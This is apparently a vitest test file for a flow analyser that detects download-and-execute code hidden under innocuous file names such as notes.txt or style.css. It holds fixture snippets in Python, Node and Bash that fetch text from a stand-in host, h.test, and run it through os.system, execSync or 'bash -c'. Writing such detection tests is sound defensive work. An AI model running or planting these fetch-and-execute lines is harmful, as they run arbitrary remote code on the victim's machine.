// A file is a program in the language of who starts it; under a name that says nothing, in the one its lines are written in.
import { beforeAll, describe, expect, it } from 'vitest';
import { prepare, run } from './harness.ts';

beforeAll(prepare);

const PROGRAMS = {
  python: "import os, urllib.request\nos.system(urllib.request.urlopen('https://h.test/x').read().decode())\n",
  node: "const { execSync } = require('child_process');\nfetch('https://h.test/x').then((r) => r.text()).then((t) => execSync(t));\n",
  bash: 'text=$(curl -s https://h.test/x)\nbash -c "$text"\n',
};
const NAMES = ['helper', 'notes.txt', 'data.json', 'table.csv', 'page.html', 'guide.md', 'LICENSE', 'style.css'];
const reached = (files: Record<string, string>): string =>
  run(files)
    .flows()
    .map((flow) => `${[...flow.from].sort().join(',')} → ${flow.to} ${flow.host}`)
    .join('\n');
const FETCHED = /net,net:h\.test → shell h\.test/;

describe('a program that is started', () => {
  it.each(
    Object.entries(PROGRAMS).flatMap(([starter, text]) =>
      [...NAMES, starter === 'python' ? 'b.js' : 'b.py'].map((name) => [starter, name, text] as const),
    ),
  )('by %s is read whatever %s promises', (starter, name, text) => {
    expect(reached({ 'run.sh': `${starter} assets/${name}\n`, [`assets/${name}`]: text })).toMatch(FETCHED);
  });

  it('is none where a text only speaks of one', () => {
    expect(
      reached({
        'assets/notes.txt': `How it works:\nthe helper calls os.system() on what it fetched from https://h.test/x\n`,
      }),
    ).toBe('');
  });
});
